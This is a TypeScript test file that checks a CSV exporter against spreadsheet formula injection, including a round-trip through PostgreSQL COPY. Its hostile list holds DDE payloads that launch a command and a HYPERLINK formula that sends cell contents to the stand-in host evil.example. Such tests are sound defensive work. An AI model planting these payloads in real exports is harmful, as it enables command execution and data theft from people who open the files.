import { chmodSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import pg from 'pg'
import { expect, test } from 'vitest'
import { csv } from '#core/research/csv.ts'
import { freshPostgres, temporaryFolder } from '#tests/support/databases.ts'
import { readCsv } from '#tests/support/read-csv.ts'

/** As the README of an export says: one apostrophe in front of a text was put there. */
const asItWas = (text: string) => text.replace(/^'/, '')
const FIRST = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const hostile = [
  ...FIRST.map((first) => `${first}cmd|' /C calc'!A0`),
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '"=1+1',
  'a;=1+1',
  "'=1+1",
  "''",
  'a,"b"\r\nc',
  ' =1+1',
  '',
  'plain',
]

test('no text that leaves begins as a formula does, and every one comes back as it was', () => {
  for (const text of hostile) {
    const [[read] = []] = readCsv(csv([[text]]))
    expect(FIRST).not.toContain(read?.[0])
    expect(asItWas(read ?? '')).toBe(text)
  }
  const anything = fc.array(fc.tuple(fc.constantFrom(...FIRST, "'", ''), fc.string({ unit: 'binary' })), {
    minLength: 1,
  })
  fc.assert(
    fc.property(anything, (cells) => {
      const row = cells.map(([first, rest]) => first + rest)
      expect(readCsv(csv([row])).map((each) => each.map(asItWas))).toEqual([row])
    }),
  )
})

test('a separator of another country parts no text: all of them are quoted, and numbers are not', () => {
  expect(csv([['a;=1', 5]])).toBe('\uFEFF"a;=1",5\r\n')
})

test('another program reads the same: PostgreSQL’s COPY', async () => {
  const file = join(temporaryFolder(), 'hostile.csv')
  writeFileSync(file, csv([['at', 'text'], ...hostile.map((text, i): (string | number)[] => [i, text])]))
  // PostgreSQL may run as another user than the tests.
  chmodSync(join(file, '..'), 0o755)
  chmodSync(file, 0o644)
  const client = new pg.Client({ connectionString: await freshPostgres() })
  await client.connect()
  try {
    await client.query('create table read (at int, text text)')
    await client.query(`copy read from '${file.replaceAll("'", "''")}' with (format csv, header true, encoding 'UTF8')`)
    const { rows } = await client.query('select text from read order by at')
    expect(rows.map((row) => asItWas(row.text))).toEqual(hostile)
  } finally {
    await client.end()
  }
})
